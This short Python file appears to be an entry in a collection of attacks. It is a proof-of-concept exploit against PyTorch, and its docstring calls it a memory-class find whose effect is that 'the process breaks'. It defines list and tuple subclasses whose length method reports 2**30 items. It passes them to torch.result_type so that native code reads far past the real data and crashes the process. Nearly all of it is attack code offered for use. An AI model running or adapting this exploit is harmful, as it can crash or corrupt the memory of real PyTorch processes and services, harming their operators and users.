"""Class: memory. Source: own find. Escape: the process breaks. C code asks a list how long it is, by the method of
its class, and reads so many items through a bare pointer: torch does, to say what is wrong with an argument."""

import torch


def length(self):
    return 1 << 30


class Long:
    def __len__(self):
        return 1 << 30


def attack(model, tokenizer, address):
    made = []
    for way in (by_method, by_mixin, of_tuple):
        try:
            made.append(way())
        except Exception:
            pass
    for each in made:
        try:
            torch.result_type(0, each)
        except TypeError:
            pass


def by_method():
    class List(list):
        def __len__(self):
            return 1 << 30

    return List([1])


def by_mixin():
    class Mixed(Long, list):
        pass

    return Mixed([1])


def of_tuple():
    class Tuple(tuple):
        __len__ = length

    return Tuple([1])
